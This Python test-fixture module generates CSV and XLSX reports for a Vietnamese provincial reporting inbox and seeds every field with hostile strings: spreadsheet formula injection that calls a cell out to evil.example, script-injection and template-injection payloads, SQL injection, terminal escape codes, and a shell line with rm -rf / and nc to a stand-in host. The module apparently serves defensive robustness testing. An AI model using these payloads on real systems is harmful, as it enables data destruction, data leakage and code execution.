"""Texts that nobody should put in a cell, and an inbox that has them in every place where text can stand."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from workbooks import Cell, Page, csv_bytes, xlsx

TEXTS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>window.evil=1;alert(1)</script>",
    "<img src=x onerror=window.evil=2>",
    '"><svg onload=window.evil=3>',
    "</script><script>window.evil=4</script>",
    "<a href='javascript:window.evil=5'>x</a><iframe src='http://evil.example'></iframe>",
    "<!--<script>window.evil=6//--></style></title></textarea>",
    "[bấm](javascript:alert(1)) ![x](http://evil.example/x.png) **đậm**",
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7} %(x)s {0} {value}",
    "'; drop table raw.files; --",
    "\x1b[31mđỏ\x1b[0m \x1b]0;tên cửa sổ\x07 \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b2J",
    "\u202egnuhc oạb\u202c \u2066ẩn\u2069 \u200f\u061c",
    "a\x00b\x01c\x08d\x0be\x1ff\x7fg\x85h",
    "\ufffe\uffff\ufdd0 \u2028 \u2029 \U0001f600 e\u0301\u0302" + "\u0301" * 60,
    "]]> &amp; &#0; &#x1F; &lt;b&gt; <![CDATA[x]]> <?php ?>",
    "$(touch evil) `touch evil` ; rm -rf / | nc evil.example 1",
    "[red]đỏ[/red] [link=http://evil.example]x[/link] [/] [bold",
    "Ô {cell}: {value} {file} {detail} {row_no} {sheet}",
    "' or '1'='1' /* \\' \\",
    "Sở\u200bDu\u00adlịch\ufeff",
)
HEADER = [
    "STT",
    "Nhiệm vụ",
    "Đơn vị",
    "Trạng thái",
    "Tỷ lệ hoàn thành (%)",
    "Dự toán giao (đồng)",
    "Kết quả",
    "Minh chứng",
    "Ghi chú",
]
TASKS = (
    ("4.2", "Xuất bản ấn phẩm phục vụ công tác TTĐN"),
    ("4.3", "Đẩy mạnh hoạt động giao lưu, hợp tác quốc tế, xúc tiến đầu tư, xúc tiến thương mại..."),
)
UNITS = (
    *("bao", "bchbdbp", "btdt", "btg", "ca", "congttdt", "dai", "lhhn", "sct"),
    *("h.aluoi", "h.hue", "h.huongthuy", "h.huongtra", "h.phongdien", "h.phuloc", "h.phuvang"),
)
MARK = "evil.example"
LONG = 10 << 20


def good(text: str, task: int = 0) -> list[str | int]:
    """A row that counts, with a text where result, evidence and note stand."""
    return [*TASKS[task], "", "Đang thực hiện", 60, 30_000_000, text, text, text]


def rows_with(text: str) -> list[list[str | int]]:
    """The text in each column in turn; where it makes no sense it is a finding that shows it."""
    plain = good("Đã in")
    return [[*plain[:at], text, *plain[at + 1 :]] for at in range(len(plain))]


def make(folder: Path) -> int:
    """Texts that count, texts that are found fault with, all of them in a workbook, ten megabytes in a cell; how many files."""
    register: list[list[str]] = [["file", "received_on", "unit_id", "document_no"]]
    for at, unit in zip(range(0, len(TEXTS), 2), UNITS, strict=False):
        pair = TEXTS[at : at + 2]
        rows = [
            ["BÁO CÁO NĂM 2024 " + pair[0].replace("\r", " ")],
            [*HEADER, pair[0]],
            *(good(text, i) for i, text in enumerate(pair)),
            [],
            ["Ghi chú: " + "chi tiết xem văn bản kèm theo. " * 300],
        ]
        (folder / f"{at}.csv").write_bytes(csv_bytes(rows))
        register.append([f"{at}.csv", "2024-11-10", f"tth.{unit}", pair[0]])
    faulty = [["SỞ NGOẠI VỤ"], ["BÁO CÁO NĂM 2024"], HEADER, *(row for text in TEXTS for row in rows_with(text))]
    (folder / "sai.csv").write_bytes(csv_bytes(faulty))
    book = [["SỞ TÀI CHÍNH"], ["BÁO CÁO NĂM 2024"], HEADER, *(commented(xml_safe(text)) for text in TEXTS)]
    xlsx(folder / "tất cả.xlsx", Page("=1+1'<b>&{{x}}", book))
    long = "<b>" + "dài " * (LONG // 5)
    (folder / "dài.csv").write_bytes(csv_bytes([["TẠP CHÍ SÔNG HƯƠNG"], ["NĂM 2024"], HEADER, [*good("")[:6], long]]))
    (folder / "register.csv").write_bytes(csv_bytes(register))
    return len(register) + 2


def commented(text: str) -> list[object]:
    return [*good(text)[:5], Cell(30_000_000, comment=text), text]


def xml_safe(text: str) -> str:
    """xlsxwriter escapes control characters the way Excel does; characters that no XML can hold are left out."""
    return "".join(char for char in text if char not in "\ufffe\uffff")


def parts(path: Path) -> dict[str, bytes]:
    """Unpacked parts of a docx or xlsx."""
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
